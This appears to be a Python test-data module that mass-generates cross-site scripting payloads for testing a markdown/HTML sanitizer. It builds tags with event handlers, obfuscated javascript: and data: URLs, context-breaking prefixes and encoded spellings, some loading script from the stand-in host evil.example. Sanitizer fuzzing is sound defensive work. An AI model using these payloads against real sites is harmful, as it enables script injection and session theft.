"""Many more ways than anybody wrote down: shapes, handlers, spellings and places, each with each. Every text is new."""

from itertools import chain, product
from urllib.parse import quote

TAGS = (
    "a", "a/href=#", "abbr", "address", "article", "audio", "b", "base", "big", "blink", "body", "button", "canvas",
    "center", "custom-x", "details", "dialog", "div", "embed", "fieldset", "font", "form", "frameset", "h1", "iframe",
    "image", "img", "img/src=x", "input", "isindex", "label", "li", "link", "listing", "main", "marquee", "math",
    "menu", "meter", "nav", "object", "optgroup", "option", "output", "p", "picture", "plaintext", "pre", "q",
    "select", "slot", "source", "span", "style", "summary", "svg", "svg/", "table", "tbody", "td", "template",
    "textarea", "title", "tr", "u", "ul", "video", "video/src=x", "wbr", "xmp", "xss",
)  # fmt: skip
HANDLERS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onblur", "oninput", "onchange", "onsubmit", "onreset",
    "onselect", "ontoggle", "onbegin", "onend", "onrepeat", "onanimationstart", "onanimationend", "ontransitionend",
    "onpointerenter", "onpointerrawupdate", "onwheel", "onscroll", "onscrollend", "onpageshow", "onhashchange",
    "onmessage", "oncopy", "oncut", "onpaste", "onbeforeinput", "onbeforematch", "oncontentvisibilityautostatechange",
    "oncuechange", "ondurationchange", "onformdata", "oninvalid", "onloadstart", "onsecuritypolicyviolation",
    "onplay", "onfullscreenchange", "onafterscriptexecute", "onkeydown", "onresize", "onshow", "onstart", "onunload",
)  # fmt: skip
# How a tag and its handler are written.
WRITTEN = (
    "<{tag} {handler}=alert(1)>",
    '<{tag} {handler}="alert(1)">x',
    "<{tag}/{handler}='alert(1)'//",
    "<{tag}\t{handler}\t=\nalert`1`>",
)

SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "java\tscript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java&#10;script:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3A;alert&lpar;1&rpar;",
    "&#106;avascript:alert(1)", "&#0000106avascript:alert(1)", "&#x6A;&#x61;vascript:alert(1)",
    "java%73cript:alert(1)", "javascript%3Aalert(1)", "javascript:%61lert(1)", "javascript://%0Aalert(1)",
    "javascript:/**/alert(1)", "javascript:alert?.(1)", "javascript:alert`1`", "javascript\u2028:alert(1)",
    "\u200bjavascript:alert(1)", "\ufeffjavascript:alert(1)", "java\u00adscript:alert(1)", "ｊavascript:alert(1)",
    "javaſcript:alert(1)", "\\javascript:alert(1)", "javascript\\:alert(1)", "vbscript:alert(1)",
    "livescript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg/onload=alert(1)>",
    "data:,alert(1)", "blob:null/x", "filesystem:x", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
    "jar:javascript:alert(1)!/", "about:blank#<script>alert(1)</script>", "//evil.example/x", "/\\evil.example/x",
    "\\\\evil.example\\x", "https:evil.example", "///evil.example", "/%09/evil.example",
    "mailto:x@evil.example?body=<script>alert(1)</script>",
)  # fmt: skip
ADDRESSED = (
    "[x]({})", "[x](<{}>)", "![x]({})", "![x](<{}>)", "<{}>", '[x]({} "t")', "[x][{n}]\n\n[{n}]: {}",
    "[x][{n}]\n\n[{n}]: <{}> 't'", "![x][{n}]\n\n[{n}]: {}", "[![x]({})]({})", "[`x`]({})", "## [x]({})", "- [x]({})",
    "> [x]({})", "| [x]({}) |\n|---|\n| ![x]({}) |", "::: note [x]({})\n[x]({})\n:::", "::: do\n- [x]({})\n:::",
    "<a href='{}'>x</a>", '<a href="{}">x</a>', "<iframe src='{}'></iframe>",
    "<form action='{}'><button formaction='{}'>x</button></form>", "<object data='{}'></object>",
    "<img src='{}' srcset='{} 2x'>", "<svg><a xlink:href='{}'><text>x</text></a></svg>", "<math href='{}'>x</math>",
    "<meta http-equiv=refresh content='0;url={}'>", "<base href='{}'>", "<link rel=stylesheet href='{}'>",
    "<embed src='{}'>", "<video poster='{}'><source src='{}'></video>", "<body background='{}'>",
    "<div style='background:url({})'>x</div>", "[x](page:{})", "![x](image:{})", "![x](drawing:{})", "[@{}]",
    "[[{}]]",
)  # fmt: skip

SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT >", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<script src=//evil.example/x></script>", "<script src=data:,alert(1)></script>",
    "<script type=module>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>", "<script>alert(1)//", "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) /></svg>", "<img src=x onerror=alert(1)>", "<img src=//evil.example/x>",
    "<svg onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import '//evil.example/x'</style>", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>", "<math><mtext></p><img src=x onerror=alert(1)></math>",
)  # fmt: skip
# What may have to be closed first, and where the text may come to stand.
PLACES = (
    "{}", "x {} x", "\"'>{}", '\\">{}', "`>{}", "-->{}", "--!>{}<!--", "]]>{}", "*/{}", "?>{}", "</title>{}",
    "</textarea>{}", "</style>{}", "</script>{}", "</noscript>{}", "</template>{}", "</select>{}", "</svg>{}",
    "</math></table>{}", "<!--{}", "<![CDATA[{}", "<noscript><p title='</noscript>{}'>",
    "<style><a title='</style>{}'>", "<svg><style>{}", "<math><mi><style>{}", "<table><td>{}", "<select><option>{}",
    "<template>{}", "<div title='{}'>x</div>", '<p data-x="{}">', "# {}", "### {} {{#x}}", "- {}", "1. {}", "> {}",
    "    {}", "`{}`", "``{}``", "**{}**", "*{}*", "~~{}~~", "[{}](https://a.example)", "[x](https://a.example '{}')",
    '[x](https://a.example "{}")', "![{}](image:x)", "![x](image:x '{}')", "[{}]", "[x][{}]", "[^{}]", "[@{}]",
    "[[{}]]", "{{{{{}}}}}", "| {} |\n|---|\n| x |", "| x |\n|---|\n| {} |", "```\n{}\n```", "```{}\nx\n```",
    "~~~ {}\nx\n~~~", "::: note {}\nx\n:::", "::: note\n{}\n:::", "::: {}\nx\n:::", "::: do\n- {}\n:::",
    "::: steps\n1. {}\n:::", "::: numbers 100 {}\n- 8: x | y\n:::", "::: numbers 100 x\n- 8: {} | {}\n:::",
    "Term\n: {}", "---\ntitle: {}\n---", "<https://a.example/{}>",
)  # fmt: skip


def entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" if letter in "<>\"'()=" else letter for letter in text)


def hexadecimal(text: str) -> str:
    return text.replace("<", "&#x3C;").replace(">", "&#x3e;").replace("=", "&equals;")


def named(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;").replace("(", "&lpar;")


def twice(text: str) -> str:
    return named(text).replace("&", "&amp;")


def wide(text: str) -> str:
    return text.replace("<", "＜").replace(">", "＞")


def escaped(text: str) -> str:
    return text.replace("<", "\\<")


SPELLINGS = (str, entities, hexadecimal, named, twice, wide, escaped, quote)


def handled() -> list[str]:
    return [shape.format(tag=tag, handler=handler) for shape, tag, handler in product(WRITTEN[:2], TAGS, HANDLERS)] + [
        WRITTEN[2 + n % 2].format(tag=tag, handler=HANDLERS[n % len(HANDLERS)]) for n, tag in enumerate(TAGS * 4)
    ]


def addressed() -> list[str]:
    return [
        place.replace("{n}", f"r{n}").replace("{}", scheme)
        for n, (place, scheme) in enumerate(product(ADDRESSED, SCHEMES))
    ]


def placed() -> list[str]:
    return [
        place.replace("{}", spelling(script)).replace("{{", "{").replace("}}", "}")
        for place, script, spelling in product(PLACES, SCRIPTS, SPELLINGS)
    ]


def everything() -> list[str]:
    return list(dict.fromkeys(chain(handled(), addressed(), placed())))
